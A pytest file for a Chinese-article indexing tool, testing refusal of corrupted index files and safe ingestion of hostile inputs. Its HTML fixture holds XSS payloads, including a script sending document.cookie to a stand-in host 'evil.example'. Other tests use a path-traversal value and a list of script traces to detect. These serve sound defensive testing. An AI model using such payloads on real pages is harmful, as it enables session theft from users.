"""Hostile inputs: damaged index files on load, and hostile article files at ingest.

Damaged index: every kind of index file truncated, extended or with a byte flipped,
the manifest damaged in any byte, ``CURRENT`` naming a missing version or holding
garbage — each is refused by `open_index` with `IndexCorrupt` (`IndexMissing` for the
dangling pointer) whose message names the file and says to run ``qa ingest --rebuild``.

Hostile articles: empty, binary, gigantic, legacy-encoded (GBK, Big5, UTF-16/32),
HTML full of scripts, weird file names.  Each is ingested correctly or reported with
a clear reason, and the rest of the batch still lands in one new version; ``qa ingest``
prints every failure and exits 1 only when something failed.  All with the fake
embedder, so they run with the fast tests.
"""

from __future__ import annotations

import io
import json
import os
import random
import re
import shutil
import time
import zipfile
from pathlib import Path

import opencc
import pytest

from index.build import ingest
from index.errors import IndexCorrupt, IndexMissing, IngestError
from index.store import manifest as manifest_mod
from index.store import versions
from index.store.loader import open_index
from index.store.manifest import ChunkParams
from index.text.clean import clean_document
from index.text.sources import MAX_BYTES, decode, read_source
from tests.conftest import SAMPLE
from tests.fakes import FakeEmbedder

PARAMS = ChunkParams(128, 16)
ARTICLE = "兰州市委作出决定。要求抓实抓好细胞工程和头雁工程，推进基层党组织全面进步全面过硬。" * 3
DATA_FILES = ("store.sqlite", "dense.faiss", "aux.faiss", "bm25.npz", "bm25_vocab.json")
REBUILD = "qa ingest --rebuild"


def _write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


# --- damaged index files -------------------------------------------------------------


@pytest.fixture(scope="module")
def aux_index_dir(tmp_path_factory) -> Path:
    """The sample corpus with cross-lingual vectors, so that every kind of file exists."""
    directory = tmp_path_factory.mktemp("aux-index")
    aux = FakeEmbedder(dimension=32, model_id="fake-aux")
    report = ingest(directory, [SAMPLE], FakeEmbedder(), PARAMS, aux=aux)
    assert not report.failed
    return directory


@pytest.fixture
def index_copy(aux_index_dir, tmp_path) -> Path:
    copy = tmp_path / "index"
    shutil.copytree(aux_index_dir, copy)
    return copy


def _damage(path: Path, how: str) -> None:
    data = bytearray(path.read_bytes())
    if how == "truncated":
        del data[len(data) // 2 :]
    elif how == "emptied":
        data.clear()
    elif how == "extended":
        data += b"\x00"
    else:  # flip a byte at the start, middle or end
        at = {"flip-first": 0, "flip-middle": len(data) // 2, "flip-last": len(data) - 1}[how]
        data[at] ^= 0x40
    path.write_bytes(bytes(data))


def _assert_names_file_and_fix(exc: IndexCorrupt | IndexMissing, name: str) -> None:
    assert name in exc.message, exc.message
    assert REBUILD in exc.message, exc.message
    assert isinstance(exc.detail, dict) and exc.detail["file"] == name


@pytest.mark.parametrize(
    "how", ["truncated", "emptied", "extended", "flip-first", "flip-middle", "flip-last"]
)
@pytest.mark.parametrize("name", DATA_FILES)
def test_damaged_data_files_are_refused_by_name(index_copy, name, how):
    _damage(versions.current(index_copy) / name, how)
    with pytest.raises(IndexCorrupt) as caught:
        open_index(index_copy)
    _assert_names_file_and_fix(caught.value, name)
    if how in ("truncated", "emptied"):
        assert "truncated" in caught.value.message
    assert "checksum" in caught.value.message


@pytest.mark.parametrize("name", DATA_FILES)
def test_missing_data_files_are_refused_by_name(index_copy, name):
    (versions.current(index_copy) / name).unlink()
    with pytest.raises(IndexCorrupt, match="is missing") as caught:
        open_index(index_copy)
    _assert_names_file_and_fix(caught.value, name)


def test_every_single_byte_change_to_the_manifest_is_detected(index_copy):
    path = versions.current(index_copy) / "manifest.json"
    original = path.read_bytes()
    for at in range(len(original)):
        for bit in (0x01, 0x20):
            data = bytearray(original)
            data[at] ^= bit
            path.write_bytes(bytes(data))
            with pytest.raises(IndexCorrupt) as caught:
                manifest_mod.read(path.parent, verify=False)
            _assert_names_file_and_fix(caught.value, "manifest.json")
    path.write_bytes(original)
    assert open_index(index_copy).manifest.chunks > 0


@pytest.mark.parametrize(
    "edit, reason",
    [
        (lambda text: text[: len(text) // 2], "not readable JSON"),
        (lambda text: "", "not readable JSON"),
        (lambda text: "[]", "not a JSON object"),
        (lambda text: text.replace('"chunks": ', '"chunks": 1'), "does not match its own checksum"),
        (lambda text: re.sub(r'\s*"checksum": "\w+",', "", text), "own checksum is missing"),
    ],
)
def test_damaged_manifest_is_refused_with_the_reason(index_copy, edit, reason):
    path = versions.current(index_copy) / "manifest.json"
    path.write_text(edit(path.read_text(encoding="utf-8")), encoding="utf-8")
    with pytest.raises(IndexCorrupt, match=reason) as caught:
        open_index(index_copy)
    _assert_names_file_and_fix(caught.value, "manifest.json")


def test_missing_manifest_is_refused(index_copy):
    (versions.current(index_copy) / "manifest.json").unlink()
    with pytest.raises(IndexCorrupt, match="is missing") as caught:
        open_index(index_copy)
    _assert_names_file_and_fix(caught.value, "manifest.json")


def test_current_naming_a_missing_version_says_which_and_what_exists(index_copy):
    (index_copy / "CURRENT").write_text("v000042\n", encoding="utf-8")
    with pytest.raises(IndexMissing) as caught:
        open_index(index_copy)
    message = caught.value.message
    _assert_names_file_and_fix(caught.value, "CURRENT")
    assert "v000042" in message and "does not exist" in message
    assert "v000001" in message  # the versions that do exist, to point CURRENT at


@pytest.mark.parametrize("content", [b"", b"\n", b"\x89PNG\x00\x01", b"../../etc", b"v1"])
def test_current_holding_garbage_is_refused(index_copy, content):
    (index_copy / "CURRENT").write_bytes(content)
    with pytest.raises(IndexCorrupt, match="should hold a version name") as caught:
        open_index(index_copy)
    _assert_names_file_and_fix(caught.value, "CURRENT")


def test_no_index_at_all_is_index_missing(tmp_path):
    with pytest.raises(IndexMissing, match="qa ingest PATH"):
        open_index(tmp_path / "nothing")


def test_a_file_that_passes_its_checksum_but_does_not_load_is_named(index_copy):
    """A bug that wrote garbage (checksummed as written) is still reported by file name."""
    version = versions.current(index_copy)
    (version / "dense.faiss").write_bytes(b"not a faiss index at all")
    data = json.loads((version / "manifest.json").read_text(encoding="utf-8"))
    data["files"]["dense.faiss"] = manifest_mod.sha256_file(version / "dense.faiss")
    data["sizes"]["dense.faiss"] = (version / "dense.faiss").stat().st_size
    data["checksum"] = manifest_mod._digest(data)
    (version / "manifest.json").write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(IndexCorrupt, match="could not be loaded") as caught:
        open_index(index_copy)
    _assert_names_file_and_fix(caught.value, "dense.faiss")


def test_format_1_manifests_still_load(index_copy):
    version = versions.current(index_copy)
    data = json.loads((version / "manifest.json").read_text(encoding="utf-8"))
    for key in ("sizes", "checksum"):
        del data[key]
    data["format_version"] = 1
    (version / "manifest.json").write_text(json.dumps(data), encoding="utf-8")
    assert len(open_index(index_copy).chunks) == data["chunks"]
    (version / "bm25.npz").write_bytes(b"")
    with pytest.raises(IndexCorrupt, match=r"bm25\.npz"):
        open_index(index_copy)


def test_ingest_refuses_a_damaged_index_and_rebuild_repairs_it(index_copy, tmp_path):
    src = tmp_path / "src"
    _write(src, "new.txt", "新文章\n\n" + ARTICLE)
    aux = FakeEmbedder(dimension=32, model_id="fake-aux")
    _damage(versions.current(index_copy) / "store.sqlite", "flip-middle")
    with pytest.raises(IndexCorrupt, match=r"store\.sqlite"):
        ingest(index_copy, [src], FakeEmbedder(), PARAMS, aux=aux)
    (index_copy / "CURRENT").write_text("v000009\n", encoding="utf-8")
    with pytest.raises(IndexMissing, match="v000009"):
        ingest(index_copy, [src], FakeEmbedder(), PARAMS, aux=aux)
    report = ingest(index_copy, [SAMPLE, src], FakeEmbedder(), PARAMS, aux=aux, rebuild=True)
    assert not report.failed
    assert len(open_index(index_copy).documents) == 6


def test_a_version_pruned_while_loading_is_retried_on_the_new_one(index_copy, monkeypatch):
    from index.store import loader

    src = index_copy.parent / "src"
    _write(src, "late.txt", "后来的文章\n\n" + ARTICLE)
    aux = FakeEmbedder(dimension=32, model_id="fake-aux")
    ingest(index_copy, [src], FakeEmbedder(), PARAMS, aux=aux)
    (index_copy / "CURRENT").write_text("v000001\n", encoding="utf-8")
    original, calls = manifest_mod.read, []

    def read_while_a_writer_switches(directory, *, verify=True):
        calls.append(directory.name)
        if len(calls) == 1:  # a writer publishes v000002 and prunes v000001 meanwhile
            (index_copy / "CURRENT").write_text("v000002\n", encoding="utf-8")
            shutil.rmtree(directory)
        return original(directory, verify=verify)

    monkeypatch.setattr(loader.manifest, "read", read_while_a_writer_switches)
    index = open_index(index_copy)
    assert calls == ["v000001", "v000002"] and index.version == "v000002"
    assert "late" in index.documents


def test_leftovers_of_a_crashed_writer_are_harmless(index_copy, tmp_path):
    staging = index_copy / "staging-4242-deadbeef"
    staging.mkdir()
    (staging / "store.sqlite").write_bytes(b"half a database")
    (staging / "dense.faiss").write_bytes(b"")
    (index_copy / "CURRENT.tmp").write_text("v0000", encoding="utf-8")
    orphan = index_copy / "versions" / "v000002"  # renamed in, never pointed at
    orphan.mkdir()
    (orphan / "manifest.json").write_text("{", encoding="utf-8")
    assert open_index(index_copy).version == "v000001"
    src = tmp_path / "src"
    _write(src, "next.txt", "下一篇\n\n" + ARTICLE)
    aux = FakeEmbedder(dimension=32, model_id="fake-aux")
    report = ingest(index_copy, [src], FakeEmbedder(), PARAMS, aux=aux)
    assert report.version == "v000003" and open_index(index_copy).version == "v000003"
    assert not list(index_copy.glob("staging-*")) and not (index_copy / "CURRENT.tmp").exists()


def test_versions_are_readable_by_other_users(aux_index_dir):
    """mkdtemp's 0o700 used to make every version private to the user who built it."""
    version = versions.current(aux_index_dir)
    assert version.stat().st_mode & 0o055 == 0o055 & ~_umask()


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


# --- hostile article files -----------------------------------------------------------


def _encodable(text: str, encoding: str) -> str:
    return "".join(ch for ch in text if _encodes(ch, encoding))


def _encodes(ch: str, encoding: str) -> bool:
    try:
        ch.encode(encoding)
    except UnicodeEncodeError:
        return False
    return True


@pytest.fixture(scope="module")
def sample_texts() -> list[str]:
    return [p.read_text(encoding="utf-8") for p in sorted(SAMPLE.glob("*.txt"))]


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "big5", "cp950"])
def test_legacy_chinese_encodings_decode_to_the_original(sample_texts, encoding):
    to_script = opencc.OpenCC("s2t").convert if encoding in ("big5", "cp950") else str
    for full in sample_texts:
        original = _encodable(to_script(full), encoding)
        assert decode(original.encode(encoding), "x.txt") == original
        for sentence in re.findall(r"[^。\n]{4,40}。", original)[:25]:  # short ones too
            assert decode(sentence.encode(encoding), "x.txt") == sentence, sentence


def test_gb18030_four_byte_characters_decode(sample_texts):
    original = sample_texts[0][:300] + "𠀀𪚥㐀"  # CJK extension B and A
    assert decode(original.encode("gb18030"), "x.txt") == original


@pytest.mark.parametrize("codec", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_unicode_with_byte_order_marks_and_bomless_utf16(sample_texts, codec):
    original = sample_texts[1]
    data = original.encode(codec)
    if codec in ("utf-16-le", "utf-16-be"):
        assert not data.startswith((b"\xff\xfe", b"\xfe\xff"))  # no BOM: found by its NULs
    assert decode(data, "x.txt") == original


@pytest.mark.parametrize(
    "data, reason",
    [
        (b"", "empty"),
        (b" \n\t\r\n  ", "empty"),
        (b"\xef\xbb\xbf\n", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "PNG image"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(64), "JPEG image"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "PDF document"),
        (b"GIF89a\x01\x00\x01\x00", "GIF image"),
        (b"\x1f\x8b\x08\x00" + bytes(32), "gzip"),
        (b"SQLite format 3\x00" + bytes(84), "SQLite database"),
        (b"\x7fELF\x02\x01\x01" + bytes(32), "executable"),
        (bytes(range(256)) * 8, "binary"),
        (b"\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10\x11" * 50 + "文字".encode(), "binary"),
        ("caf\xe9 cr\xe8me".encode("latin-1"), "save it as UTF-8"),
        (b"\xff\xfe\x00\xd8", "not valid UTF-16"),
    ],
)
def test_files_that_are_not_text_get_a_clear_reason(tmp_path, data, reason):
    path = tmp_path / "hostile file.txt"
    path.write_bytes(data)
    report = ingest(tmp_path / "idx", [path], FakeEmbedder(), PARAMS)
    assert report.version is None and not report.added
    [(where, message)] = report.failed
    assert where == str(path) and message.startswith(str(path)), message
    assert reason in message, message


def test_zip_and_office_files_are_named_as_such(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document>兰州</w:document>")
    path = tmp_path / "report.txt"
    path.write_bytes(buffer.getvalue())
    [(_, message)] = ingest(tmp_path / "idx", [path], FakeEmbedder(), PARAMS).failed
    assert "ZIP archive or an Office" in message


def test_stray_control_characters_are_dropped_not_fatal():
    text = "兰州市委作出决定。\x0c要求抓实抓好细胞工程。\x1a" + ARTICLE
    decoded = decode(text.encode("utf-8"), "x.txt")
    assert "\x1a" not in decoded and "\x0c" not in decoded
    assert decoded.startswith("兰州市委作出决定。\n要求抓实抓好细胞工程。")


def test_a_gigantic_file_is_refused_without_reading_it(tmp_path, monkeypatch):
    path = tmp_path / "gigantic.txt"
    line = ("兰州市委作出决定，要求抓实抓好细胞工程和头雁工程。" * 20 + "\n").encode()
    with path.open("wb") as fh:
        for _ in range(50 * 1024 * 1024 // len(line) + 1):
            fh.write(line)
    assert path.stat().st_size > 50 * 1024 * 1024 > MAX_BYTES
    opened = []
    monkeypatch.setattr(Path, "open", lambda self, *a, **k: opened.append(self))
    monkeypatch.setattr(Path, "read_bytes", lambda self: opened.append(self))
    started = time.perf_counter()
    limit = r"52\.\d MB \(52,\d{3},\d{3} bytes\), over the 10 MB limit.*split it"
    with pytest.raises(IngestError, match=limit):
        read_source(path)
    assert time.perf_counter() - started < 1 and not opened


def test_a_gigantic_file_fails_alone_and_the_rest_lands(tmp_path):
    src = tmp_path / "src"
    _write(src, "good.txt", "好文章\n\n" + ARTICLE)
    with (src / "huge.txt").open("wb") as fh:
        fh.truncate(MAX_BYTES + 1)  # sparse: the size is what counts
    report = ingest(tmp_path / "idx", [src], FakeEmbedder(), PARAMS)
    assert report.added == ["good"] and report.version == "v000001"
    [(where, message)] = report.failed
    assert where.endswith("huge.txt") and "limit" in message


HOSTILE_HTML = """<!DOCTYPE html>
<html><head>
<title>兰州市委决定<script>alert("title")</script></title>
<meta property="og:title" content="兰州市委的决定&lt;script&gt;alert('og')&lt;/script&gt;">
<style>body { background: url("javascript:alert('css')") }
.x::after { content: "STYLE-TEXT" }</style>
<script>document.write("SCRIPT-TEXT"); fetch("https://evil.example/?c=" + document.cookie)</script>
<script type="text/template"><p>TEMPLATE-SCRIPT</p></script>
</head>
<body onload="alert('body')">
<noscript>NOSCRIPT-TEXT</noscript>
<template><p>TEMPLATE-TEXT</p></template>
<iframe srcdoc="&lt;script&gt;alert('iframe')&lt;/script&gt;">IFRAME-TEXT</iframe>
<svg onload="alert('svg')"><script>alert('svg script')</script><text>SVG-TEXT</text></svg>
<!-- <script>alert('comment')</script> COMMENT-TEXT -->
<article>
<h1 onclick="alert('h1')">推进基层党组织全面进步全面过硬</h1>
<p onmouseover="alert('p')">兰州市委作出决定，要求抓实抓好细胞工程、头雁工程、
先锋工程和强基工程。</p>
<p><a href="javascript:alert('link')" onclick="steal()">全市上下要深入贯彻落实</a>各项部署，
推动基层党建高质量发展。</p>
<img src="x" onerror="alert('img')" alt="ALT-TEXT">
<p style="display:none">HIDDEN-TEXT</p>
<div hidden>HIDDEN-ATTR-TEXT</div>
<p>会议强调，要把党的组织优势转化为基层治理效能。<SCRIPT SRC="https://evil.example/x.js"></SCRIPT></p>
<p>最后一段：各级党组织要压实责任，确保各项任务落地见效。</p>
<script>var unclosed = "UNCLOSED-SCRIPT
"""
SCRIPT_TRACES = (
    "alert", "script", "SCRIPT", "javascript", "onload", "onclick", "onerror", "steal",
    "evil.example", "document.", "STYLE-TEXT", "NOSCRIPT", "TEMPLATE", "IFRAME-TEXT",
    "SVG-TEXT", "COMMENT-TEXT", "HIDDEN", "ALT-TEXT", "background",
)  # fmt: skip


def _all_index_text(index_dir: Path) -> str:
    index = open_index(index_dir)
    parts = [c.text for c in index.chunks.values()] + list(index.texts.values())
    for doc in index.documents.values():
        parts += [doc.title, doc.outlet or "", doc.author or "", doc.origin or ""]
    return "\n".join(parts)


@pytest.mark.parametrize("name", ["page.html", "page.htm", "saved-page.txt"])
def test_scripts_styles_and_event_handlers_never_reach_the_index(tmp_path, name):
    path = _write(tmp_path / "src", name, HOSTILE_HTML)
    report = ingest(tmp_path / "idx", [path], FakeEmbedder(), PARAMS)
    assert not report.failed and len(report.added) == 1
    text = _all_index_text(tmp_path / "idx")
    assert "细胞工程" in text and "落地见效" in text and "全市上下要深入贯彻落实" in text
    leaked = [trace for trace in SCRIPT_TRACES if trace in text]
    assert not leaked, leaked
    title = next(iter(open_index(tmp_path / "idx").documents.values())).title
    assert "兰州市委" in title and "<" not in title, title


def test_markdown_inline_html_loses_scripts_and_styles(tmp_path):
    md = (
        "---\ntitle: 兰州<script>alert('fm')</script>市委决定\n---\n\n"
        "# 推进基层党组织全面进步\n\n"
        "兰州市委作出决定，要求抓实抓好细胞工程。<script>alert('md')</script>\n"
        "<style>p { color: red }</style>\n\n"
        "<script>\nmulti_line_SCRIPT()\n</script>\n\n"
        "<!-- COMMENT-TEXT -->\n"
        '<span onclick="steal()">全市上下</span>要深入贯彻落实各项部署。\n\n' + ARTICLE + "\n"
    )
    path = _write(tmp_path / "src", "notes.md", md)
    report = ingest(tmp_path / "idx", [path], FakeEmbedder(), PARAMS)
    assert not report.failed
    text = _all_index_text(tmp_path / "idx")
    assert "细胞工程" in text and "全市上下要深入贯彻落实" in text
    leaked = [t for t in (*SCRIPT_TRACES, "color: red", "fm") if t in text]
    assert not leaked, leaked


def test_large_and_deeply_nested_html_clean_in_linear_time():
    """Both used to be quadratic: 2 MB of paragraphs took 70 s, 5,000 nested divs 29 s."""
    from index.text.html_text import html_to_text

    random.seed(0)
    paragraphs = "".join(
        f"<p>第{i}段：兰州市委要求抓实抓好第{random.randint(1, 10**6)}项工作。</p>"
        for i in range(12000)
    )
    started = time.perf_counter()
    text, _ = html_to_text(f"<html><body><article>{paragraphs}</article></body></html>")
    assert text.count("\n") == 11999
    nested = "<div class='nav'>" * 20000 + "<article>文章正文。</article>" + "</div>" * 20000
    text, _ = html_to_text(f"<html><body>{nested}</body></html>")
    assert text == "文章正文。"
    assert time.perf_counter() - started < 60  # a few seconds; the old code took many minutes


def test_weird_file_and_folder_names(tmp_path):
    src = tmp_path / "中文 目录" / "子 目录 (2024)"
    names = {
        "兰州 决定 (2024).txt": "兰州_决定_2024",
        "文章.txt": "文章",
        "  leading and trailing  .md": "leading_and_trailing",
        ".hidden.txt": "hidden",
        "..txt": "document",
        "semi;colon&amp'quote\".html": "semi_colon_amp_quote",
        "tab\tand\nnewline.txt": "tab_and_newline",
        "Cafe\u0301.txt": "Café",  # NFD from a Mac: the same id as NFC
    }
    for i, name in enumerate(names):
        _write(src, name, f"标题{i}\n\n" + ARTICLE.replace("兰州", f"第{i}个城市"))
    raw = os.fsencode(str(src)) + b"/bad-\xff\xfe-bytes.txt"  # not UTF-8: allowed on Linux
    Path(os.fsdecode(raw)).write_text("非UTF-8文件名\n\n" + ARTICLE, encoding="utf-8")
    report = ingest(tmp_path / "idx", [tmp_path / "中文 目录"], FakeEmbedder(), PARAMS)
    assert not report.failed, report.failed
    expected = {*names.values(), "bad-_-bytes"}
    assert set(report.added) == expected
    index = open_index(tmp_path / "idx")
    assert set(index.documents) == expected
    for doc in index.documents.values():
        assert re.fullmatch(r"[\w\-.]{1,128}", doc.doc_id) and not doc.doc_id.startswith(".")
        doc.source.encode("utf-8")  # printable and storable, whatever the bytes of the name
    json.dumps(report.__dict__, ensure_ascii=False).encode("utf-8")


@pytest.mark.parametrize("name", ["idx #1", "idx?mode=rw", "idx%20", "索引 目录"])
def test_weird_index_folder_names(tmp_path, name):
    """The store is opened through a URI: '#', '?' and '%' used to cut its path short."""
    report = ingest(tmp_path / name, [SAMPLE], FakeEmbedder(), PARAMS)
    assert len(open_index(tmp_path / name).documents) == len(report.added) == 5
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]  # no stray empty databases


def test_special_paths(tmp_path):
    src = tmp_path / "src"
    _write(src, "good.txt", "好文章\n\n" + ARTICLE)
    (src / "folder.txt").mkdir()  # a folder with an article's suffix: not a file
    os.mkfifo(src / "pipe.txt")  # would block a reader forever
    (tmp_path / "empty").mkdir()
    paths = [src, src / "pipe.txt", tmp_path / "missing", tmp_path / "empty"]
    report = ingest(tmp_path / "idx", paths, FakeEmbedder(), PARAMS)
    assert report.added == ["good"] and report.version == "v000001"
    failed = dict(report.failed)
    assert "not a regular file" in failed[str(src / "pipe.txt")]
    assert "no such file or folder" in failed[str(tmp_path / "missing")]
    assert "no articles or documents in this folder" in failed[str(tmp_path / "empty")]
    assert len(failed) == 3


def test_a_file_that_breaks_the_cleaner_fails_alone(tmp_path, monkeypatch):
    from index import prepare as prepare_module

    src = tmp_path / "src"
    _write(src, "good.txt", "好文章\n\n" + ARTICLE)
    _write(src, "poison.txt", "毒文章\n\n" + ARTICLE)
    original = prepare_module.clean_document

    def clean(text, *, fmt, source_name):
        if source_name == "poison.txt":
            raise RecursionError("maximum recursion depth exceeded")
        return original(text, fmt=fmt, source_name=source_name)

    monkeypatch.setattr(prepare_module, "clean_document", clean)
    report = ingest(tmp_path / "idx", [src], FakeEmbedder(), PARAMS)
    assert report.added == ["good"]
    [(where, message)] = report.failed
    assert where.endswith("poison.txt") and "RecursionError" in message


def _hostile_batch(folder: Path, sample_texts: list[str]) -> dict[str, str | None]:
    """Files of one batch: name -> expected doc id (None: must fail)."""
    trad = opencc.OpenCC("s2t").convert(sample_texts[2])
    files: dict[str, tuple[bytes, str | None]] = {
        "utf8.txt": (sample_texts[0].encode("utf-8"), "utf8"),
        "gbk.txt": (_encodable(sample_texts[1], "gbk").encode("gbk"), "gbk"),
        "big5.txt": (_encodable(trad, "big5").encode("big5"), "big5"),
        "utf16.txt": (sample_texts[3].encode("utf-16"), "utf16"),
        "hostile.html": (HOSTILE_HTML.encode("utf-8"), "hostile"),
        "兰州 决定.md": (("# 标题\n\n" + ARTICLE).encode("utf-8"), "兰州_决定"),
        "empty.txt": (b"", None),
        "image.txt": (b"\x89PNG\r\n\x1a\n" + bytes(100), None),
        "archive.md": (b"PK\x03\x04" + bytes(100), None),
        "latin1.txt": ("na\xefve caf\xe9".encode("latin-1"), None),
        "scripts-only.html": (b"<html><script>alert(1)</script></html>", None),
        "zz/utf8.md": (b"# duplicate id\n\n" + ARTICLE.encode("utf-8"), None),
    }
    for name, (data, _) in files.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(data)
    with (folder / "gigantic.txt").open("wb") as fh:
        fh.truncate(MAX_BYTES + 1)
    return {name: doc_id for name, (_, doc_id) in files.items()} | {"gigantic.txt": None}


def test_one_hostile_batch_lands_the_good_files_in_one_version(tmp_path, sample_texts):
    src = tmp_path / "src"
    src.mkdir()
    expected = _hostile_batch(src, sample_texts)
    report = ingest(tmp_path / "idx", [src], FakeEmbedder(), PARAMS)
    good = {doc_id for doc_id in expected.values() if doc_id}
    assert set(report.added) == good
    assert report.version == "v000001" and len(list((tmp_path / "idx/versions").iterdir())) == 1
    failed = {Path(path).relative_to(src).as_posix(): why for path, why in report.failed}
    assert set(failed) == {name for name, doc_id in expected.items() if doc_id is None}
    assert "empty" in failed["empty.txt"]
    assert "PNG image" in failed["image.txt"]
    assert "ZIP archive" in failed["archive.md"]
    assert "save it as UTF-8" in failed["latin1.txt"]
    assert "no article text" in failed["scripts-only.html"]
    assert "another input in this batch has id 'utf8'" in failed["zz/utf8.md"]
    assert "MB limit" in failed["gigantic.txt"]
    index = open_index(tmp_path / "idx")
    assert set(index.documents) == good
    trad = opencc.OpenCC("s2t").convert(sample_texts[2])
    originals = {
        "gbk": _encodable(sample_texts[1], "gbk"),
        "big5": _encodable(trad, "big5"),
        "utf16": sample_texts[3],
    }
    for doc_id, original in originals.items():  # decoded exactly: cleaned exactly the same
        assert index.texts[doc_id] == clean_document(original, fmt="txt").text, doc_id


def test_cli_prints_every_failure_and_exits_1_after_publishing_the_rest(
    tmp_path, sample_texts, monkeypatch, capsys
):
    from api import cli
    from qa import runtime

    src = tmp_path / "src"
    src.mkdir()
    expected = _hostile_batch(src, sample_texts)
    monkeypatch.setattr(runtime, "load_embedder", lambda settings, batch=False: FakeEmbedder())
    monkeypatch.setattr(runtime, "load_aux_embedder", lambda settings: None)
    monkeypatch.setenv("QA_INDEX_DIR", str(tmp_path / "idx"))
    monkeypatch.setenv("QA_CHUNK_TOKENS", "128")
    monkeypatch.setenv("QA_CHUNK_OVERLAP", "16")
    assert cli.main(["ingest", str(src), str(tmp_path / "typo")]) == 1
    out, err = capsys.readouterr()
    bad = [name for name, doc_id in expected.items() if doc_id is None]
    assert f"added {len(expected) - len(bad)}," in out and f"failed {len(bad) + 1};" in out
    assert "index version: v000001" in out
    failures = [line for line in err.splitlines() if line.startswith("  failed: ")]
    assert len(failures) == len(bad) + 1
    for name in [*bad, "typo"]:
        assert any(name in line for line in failures), name
    assert cli.main(["ingest", str(src / "utf8.txt")]) == 0  # nothing failed: exit 0
    out, err = capsys.readouterr()
    assert "unchanged 1, failed 0" in out and "failed:" not in err
    assert cli.main(["ingest", "--json", str(src / "empty.txt")]) == 1
    out, _ = capsys.readouterr()
    [(path, reason)] = json.loads(out)["failed"]
    assert path.endswith("empty.txt") and "empty" in reason
